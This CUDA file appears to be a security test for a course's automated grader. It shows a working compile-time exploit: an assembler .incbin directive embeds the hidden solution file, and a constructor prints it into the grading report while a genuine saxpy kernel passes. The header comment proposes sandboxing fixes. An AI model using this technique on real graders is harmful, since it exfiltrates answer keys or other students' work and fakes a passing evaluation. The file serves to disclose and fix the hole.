/* Attack (a file read outside the sandbox, at compile time; shown without a GPU).
 * The sandbox keeps the course from the student's code at run time, and rules.sh keeps the course's files
 * out of the student's #includes (by nvcc -MD: tests/cheats/ch1_map.solution_header.cu). But labs/grade
 * compiles the file on the grading machine itself, in output/labs/build/.LAB.XXXXXX under the course's
 * root, as the grading user, and the host assembler's .incbin directive reads any file into the object
 * without appearing in -MD's list. Here it embeds ../../../../labs/solutions/ch1_map.cu (the course's
 * solution, which labs/handout.sh leaves out of what students get), and the file prints it, 480 characters
 * a line (the judge relays 40 lines of what the runner prints, "  | " in front, into the report). Any
 * file the grading user can read (another student's submission in labs/gradebook's folder, a key) would
 * be read the same way, by a path that is guessed. The saxpy is the honest one: the grade is a PASS, and
 * the report holds the solution.
 * Fix: labs/steps/build.sh: compile in the sandbox too (bwrap with the toolkit and the system read-only,
 * the work folder the only writable, nothing of the course bound), or at least refuse .incbin/.incbin-like
 * directives: `objdump -h` of student.o shows no section of the file's own beyond nvcc's, or scan the
 * preprocessed source for "incbin" (asm text is not hidden by macros after preprocessing: nvcc -E). */
#include <stdio.h>
#include <string.h>

asm(".section .rodata\n"
    ".globl course_solution\n"
    "course_solution:\n"
    ".incbin \"../../../../labs/solutions/ch1_map.cu\"\n"
    ".byte 0\n"
    ".previous\n");
extern "C" const char course_solution[];

__attribute__((constructor)) static void show(void)
{
    char line[481];
    size_t n = strlen(course_solution);
    for (size_t at = 0; at < n; at += 480) {
        size_t k = n - at < 480 ? n - at : 480;
        memcpy(line, course_solution + at, k);
        line[k] = 0;
        for (size_t i = 0; i < k; i++)
            if (line[i] == '\n')
                line[i] = '~';
        printf("%s\n", line);
    }
    fflush(stdout);
}

__global__ void saxpy(float a, const float *x, float *y, long long n)
{
    long long stride = (long long)blockDim.x * gridDim.x;
    for (long long i = blockIdx.x * (long long)blockDim.x + threadIdx.x; i < n; i += stride)
        y[i] = a * x[i] + y[i];
}

void lab_saxpy(float a, const float *x, float *y, long long n, int sms)
{
    saxpy<<<32 * sms, 256>>>(a, x, y, n);
}
